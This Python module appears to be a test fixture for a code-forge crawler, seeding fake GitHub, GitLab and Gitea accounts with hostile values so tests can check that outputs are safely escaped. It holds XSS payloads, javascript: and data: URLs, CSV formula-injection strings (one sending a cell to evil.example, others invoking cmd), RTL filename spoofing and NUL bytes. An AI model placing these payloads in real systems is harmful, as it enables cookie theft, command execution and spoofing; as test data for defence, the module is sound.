"""A hostile seed: forges whose accounts and repositories say what an attacker would make them say.

Any self-hosted GitLab or Gitea in the registry controls its repositories' names, descriptions,
topics and URLs and its accounts' profiles. This seed puts in them markup and script,
``javascript:`` and ``data:`` URLs (also where the fake forge would compute a URL, through a
repository's ``served`` fields), spreadsheet formula prefixes (``=``, ``+``, ``-``, ``@``, tab,
carriage return), right-to-left overrides, NUL bytes and a 100 kB string. The tests crawl it
through the real clients and check every page, API answer, download and feed built from it::

    from crawlers.fakeforge import FakeForge
    from crawlers.fakeforge.hostile import HOSTILE_ACCOUNTS, hostile_seed

    with FakeForge(hostile_seed()) as forge: ...

``python -m crawlers.fakeforge --hostile`` serves it by hand.
"""

from __future__ import annotations

from typing import Any

SCRIPT = '<script>alert("xss")</script>'
IMG = "<img src=x onerror=alert(document.cookie)>"
JS_URL = "javascript:alert(document.domain)"
DATA_URL = "data:text/html,<script>alert(1)</script>"
# What a spreadsheet would run when opening a CSV whose cell starts so (OWASP's list).
FORMULAS = (
    '=HYPERLINK("https://evil.example/?leak="&A1,"Cliquez ici")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)
RTL = "rapport\u202efdp.exe"  # reads "rapportexe.pdf"
NUL = "avant\x00après"
HUGE = "A" * 100_000
# Every hostile text, for tests that look for any of them in what is served.
MARKUP = (SCRIPT, IMG)
BAD_URLS = (JS_URL, DATA_URL)

GITHUB = "github.com"
GITLAB = "gitlab.hostile.fr"
GITEA = "gitea.hostile.fr"
# (host, kind, login, account kind): what the registry lists; "" is the whole instance.
HOSTILE_ACCOUNTS = (
    (GITHUB, "github", "hostile", "org"),
    (GITLAB, "gitlab", "", "instance"),
    (GITEA, "gitea", "", "instance"),
)


def _repository(host: str, repo_id: int, owner: str, path: str, **fields: Any) -> dict[str, Any]:
    return {
        "host": host,
        "id": repo_id,
        "owner": owner,
        "name": path,
        "path": path,
        "created_at": "2024-01-01T00:00:00Z",
        "updated_at": "2024-06-01T00:00:00Z",
        "pushed_at": "2024-06-01T00:00:00Z",
        **fields,
    }


def hostile_seed() -> dict[str, Any]:
    """A GitHub organisation and two self-hosted instances (GitLab, Gitea), all hostile."""
    repositories = [
        _repository(
            GITHUB,
            10,
            "hostile",
            "outil",
            description=FORMULAS[1],
            language=SCRIPT[:40],
            topics=[SCRIPT, FORMULAS[3], "=cmd"],
            homepage=JS_URL,
            license={"spdx_id": "NOASSERTION", "name": IMG},
            served={"html_url": JS_URL, "clone_url": DATA_URL},
        ),
        _repository(
            GITLAB,
            1,
            "groupe",
            "script",
            name=SCRIPT,
            description=f"{IMG} {RTL}",
            topics=[IMG, FORMULAS[0], "-x", "@y"],
            served={"web_url": JS_URL},
        ),
        _repository(
            GITLAB,
            2,
            "groupe",
            "formules",
            name=FORMULAS[0],
            description=FORMULAS[0],
            served={"web_url": DATA_URL, "http_url_to_repo": JS_URL},
        ),
        _repository(GITLAB, 3, "groupe", "nul", name=NUL, description=HUGE),
        _repository(GITLAB, 4, "groupe", "tabulation", name=FORMULAS[4], description=FORMULAS[5]),
        _repository(
            GITEA,
            20,
            "mairie",
            "site",
            description=FORMULAS[2],
            homepage="  JaVaScRiPt:alert(1)",
            topics=[RTL],
            served={"html_url": "https://user:password@evil.example/"},
        ),
    ]
    return {
        "forges": {
            GITHUB: {
                "kind": "github",
                "accounts": [
                    {
                        "login": "hostile",
                        "kind": "org",
                        "name": SCRIPT,
                        "description": f"{IMG}{RTL}{NUL}",
                        "website": JS_URL,
                        "location": FORMULAS[0],
                        "email": f"{FORMULAS[3]}@evil.example",
                        "created_at": "2020-01-01T00:00:00Z",
                    }
                ],
            },
            GITLAB: {"kind": "gitlab", "accounts": [{"login": "groupe", "kind": "group"}]},
            GITEA: {
                "kind": "gitea",
                "accounts": [{"login": "mairie", "kind": "org", "name": IMG, "website": DATA_URL}],
            },
        },
        "repositories": repositories,
    }
